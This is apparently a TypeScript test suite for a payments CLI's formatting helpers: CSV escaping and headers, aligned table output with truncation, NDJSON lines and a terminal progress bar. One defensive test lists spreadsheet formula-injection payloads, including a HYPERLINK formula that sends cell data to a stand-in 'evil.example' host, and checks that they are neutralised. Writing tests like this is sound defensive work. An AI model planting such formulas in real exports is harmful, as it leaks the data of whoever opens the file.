import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { CheckoutSession, PaymentIntent, PaymentLink } from '@paymux/core/adapter'
import {
  amountOf,
  formatAmount,
  csvField,
  csvHeader,
  csvLine,
  csvRow,
  ndjsonLine,
  rawLast,
  LIST_COLUMNS,
  listRow,
  renderTable,
  terminalWidth,
  formatDuration,
  createProgress,
  progressLine,
} from '@paymux/cli/internal'
import { parseCsv } from './csv-parse.ts'

const created = new Date('2024-05-01T12:34:56.789Z')
const base = { provider: 'wooshpay', livemode: false, createdAt: created, metadata: {}, raw: {} }

const intent = (over: Partial<PaymentIntent> = {}): PaymentIntent => ({
  ...base,
  id: 'pi_1',
  object: 'payment_intent',
  status: 'succeeded',
  amount: { amount: 1099, currency: 'USD' },
  amountReceived: { amount: 1099, currency: 'USD' },
  amountCapturable: { amount: 0, currency: 'USD' },
  captureMethod: 'automatic',
  customerId: null,
  description: null,
  paymentMethodTypes: ['card', 'alipay'],
  paymentMethodId: null,
  merchantOrderId: null,
  canceledAt: null,
  cancellationReason: null,
  latestChargeId: null,
  ...over,
})

const link = (over: Partial<PaymentLink> = {}): PaymentLink => ({
  ...base,
  provider: 'priceblocs',
  id: 'pl_1',
  object: 'payment_link',
  url: 'https://example.test/l/1',
  active: true,
  status: 'active',
  currency: 'JPY',
  title: 'Plan',
  description: null,
  lineItems: null,
  updatedAt: null,
  ...over,
})

const lineItem = (amount: number, currency: string) => ({
  ...base,
  id: `li_${amount}`,
  object: 'line_item' as const,
  description: null,
  quantity: 1,
  price: null,
  amountSubtotal: { amount, currency },
  amountTotal: { amount, currency },
})

const session = (over: Partial<CheckoutSession> = {}): CheckoutSession => ({
  ...base,
  id: 'cs_1',
  object: 'checkout_session',
  status: 'complete',
  paymentStatus: 'paid',
  amountSubtotal: { amount: 1500, currency: 'KWD' },
  amountTotal: { amount: 1500, currency: 'KWD' },
  currency: 'KWD',
  customerId: null,
  customerEmail: 'a@example.test',
  paymentIntentId: null,
  paymentLinkId: null,
  clientReferenceId: null,
  url: null,
  successUrl: null,
  cancelUrl: null,
  expiresAt: null,
  ...over,
})

// ---

const csv = suite('cli/format/csv')

csv('quotes commas, double quotes, CR and LF as RFC 4180 says, and nothing else', () => {
  assert.is(csvField('plain'), 'plain')
  assert.is(csvField('a,b'), '"a,b"')
  assert.is(csvField('say "hi"'), '"say ""hi"""')
  assert.is(csvField('two\nlines'), '"two\nlines"')
  assert.is(csvField('cr\rhere'), '"cr\rhere"')
  assert.is(csvField(''), '')
  assert.is(csvField(null), '')
  assert.is(csvField(12), '12')
  assert.is(csvField(false), 'false')
  assert.is(csvField(created), '2024-05-01T12:34:56.789Z')
  assert.is(csvRow(['a', 'b,c', null]), 'a,"b,c",\r\n')
})

csv('a cell a spreadsheet would run as a formula gets a leading quote; plain numbers do not', () => {
  for (const formula of [
    '=1+1',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+2',
    '-3+4',
    '@SUM(1+1)',
    '\tx',
    '\rx',
  ]) {
    const field = csvField(formula)
    const [cell] = parseCsv(`${field}\r\n`)[0] as string[]
    assert.is(cell, `'${formula}`, JSON.stringify(formula))
  }
  // Numbers cannot run anything and must stay numbers (a negative amount is summed).
  for (const n of ['-12.50', '+3', '-7', '0.00']) assert.is(csvField(n), n)
  assert.is(csvField(-12.5), '-12.5')
  assert.is(csvField('a=b'), 'a=b')
  assert.is(csvField('- item'), "'- item")
})

csv('a row with every special character parses back to the same fields', () => {
  const nasty = ['x,y', '"quoted"', 'multi\r\nline', 'trailing "', ',', '""', 'ünïcödé']
  const rows = parseCsv(csvRow(nasty) + csvRow(['plain']))
  assert.equal(rows, [nasty, ['plain']])
})

csv('each resource has a fixed header and rows of the same width, amounts in major units', () => {
  const header = parseCsv(csvHeader('payment-intents'))[0] as string[]
  const row = parseCsv(csvLine('payment-intents', intent({ description: 'Order 7, "rush"\nthanks' })))[0] as string[]
  assert.is(row.length, header.length)
  const get = (name: string) => row[header.indexOf(name)]
  assert.is(get('id'), 'pi_1')
  assert.is(get('amount'), '10.99')
  assert.is(get('currency'), 'USD')
  assert.is(get('description'), 'Order 7, "rush"\nthanks')
  assert.is(get('payment_method_types'), 'card alipay')
  assert.is(get('canceled_at'), '')
  assert.is(get('created_at'), '2024-05-01T12:34:56.789Z')
  const sHeader = parseCsv(csvHeader('checkout-sessions'))[0] as string[]
  const sRow = parseCsv(csvLine('checkout-sessions', session()))[0] as string[]
  assert.is(sRow[sHeader.indexOf('amount_total')], '1.500')
  const lHeader = parseCsv(csvHeader('payment-links'))[0] as string[]
  const lRow = parseCsv(csvLine('payment-links', link({ metadata: { plan: 'gold, yearly' } })))[0] as string[]
  assert.is(lRow.length, lHeader.length)
  assert.is(lRow[lHeader.indexOf('metadata')], '{"plan":"gold, yearly"}')
})

// ---

const table = suite('cli/format/table')

table('amounts use the currency exponent; a link sums its line items when it can', () => {
  assert.is(formatAmount(amountOf(intent())), '10.99 USD')
  assert.is(formatAmount(amountOf(intent({ amount: { amount: 500, currency: 'JPY' } }))), '500 JPY')
  assert.is(formatAmount(amountOf(session())), '1.500 KWD')
  assert.is(formatAmount(amountOf(session({ amountTotal: null }))), '1.500 KWD')
  assert.is(formatAmount(amountOf(link())), '-')
  assert.is(formatAmount(amountOf(link({ lineItems: [lineItem(300, 'JPY'), lineItem(200, 'JPY')] }))), '500 JPY')
  // Mixed currencies cannot be summed: no amount rather than a wrong one.
  assert.is(formatAmount(amountOf(link({ lineItems: [lineItem(300, 'JPY'), lineItem(200, 'USD')] }))), '-')
})

table('renders aligned columns with the amount right-aligned and no trailing spaces', () => {
  const out = renderTable(LIST_COLUMNS, [
    listRow(intent()),
    listRow(intent({ id: 'pi_22', amount: { amount: 123456, currency: 'USD' }, status: 'canceled' })),
  ])
  assert.is(
    out,
    [
      'ID     PROVIDER  STATUS          AMOUNT  CREATED (UTC)',
      'pi_1   wooshpay  succeeded    10.99 USD  2024-05-01 12:34:56',
      'pi_22  wooshpay  canceled   1234.56 USD  2024-05-01 12:34:56',
      '',
    ].join('\n'),
  )
  for (const line of out.split('\n')) assert.is(line, line.trimEnd())
})

table('a width limit truncates the widest column first, with an ellipsis, and leaves the rest whole', () => {
  const id = 'pi_1234567890123456789012345'
  const rows = [listRow(intent({ id })), listRow(intent())]
  const natural = renderTable(LIST_COLUMNS, rows)
  const width = Math.max(...natural.split('\n').map((l) => l.length))
  const fitted = renderTable(LIST_COLUMNS, rows, width - 10)
    .trimEnd()
    .split('\n')
  for (const line of fitted) assert.ok(line.length <= width - 10, line)
  // The id column (28 wide) gives up the 10 characters, its last one an ellipsis.
  assert.ok((fitted[1] as string).startsWith(`${id.slice(0, 28 - 10 - 1)}…  wooshpay  succeeded`), fitted[1])
  assert.ok((fitted[1] as string).endsWith('10.99 USD  2024-05-01 12:34:56'))
  assert.is(renderTable(LIST_COLUMNS, rows, 1000), natural)
  assert.is(terminalWidth({ COLUMNS: '72' }, 200), 72)
  assert.is(terminalWidth({}, 120), 120)
  assert.is(terminalWidth({ COLUMNS: 'wide' }), undefined)
})

table('rawLast moves raw to the end and keeps every other field', () => {
  const o = rawLast(intent({ raw: { id: 'x' } }))
  assert.is(Object.keys(o).at(-1), 'raw')
  assert.equal(o, intent({ raw: { id: 'x' } }))
})

table('NDJSON is one line per object with ISO dates, even with newlines in strings', () => {
  const line = ndjsonLine(intent({ description: 'a\nb' }))
  assert.is(line.indexOf('\n'), line.length - 1)
  const back = JSON.parse(line) as { createdAt: string; description: string }
  assert.is(back.createdAt, '2024-05-01T12:34:56.789Z')
  assert.is(back.description, 'a\nb')
})

// ---

const progress = suite('cli/progress')

progress('shows bar, percentage and ETA with a total, a running count without', () => {
  assert.is(progressLine(2500, 5000, 0, 5000), '[############------------] 2,500/5,000 50%  500/s  ETA 5s')
  assert.is(progressLine(1200, null, 200, 2000), '1,200 objects  500/s')
  assert.is(progressLine(0, 10, 0, 0), '[------------------------] 0/10 0%  0/s  ETA -')
  assert.is(formatDuration(65), '1m05s')
  assert.is(formatDuration(3725), '1h02m')
})

progress('on a terminal it redraws at most every 100 ms and clears its line at the end', () => {
  let t = 0
  let written = ''
  const p = createProgress({ write: (x: string) => (written += x), isTTY: true }, 0, () => t)
  p.update(10, null)
  t = 50
  p.update(20, null) // too soon: skipped
  t = 1000
  p.update(30, null)
  p.end()
  assert.is(written, '\r\x1b[K10 objects  0/s\r\x1b[K30 objects  30/s\r\x1b[K')
  let piped = ''
  const q = createProgress({ write: (x: string) => (piped += x), isTTY: false }, 0)
  q.update(5, 10)
  q.end()
  assert.is(piped, '', 'silent when not a terminal')
})

progress.run()
csv.run()
table.run()
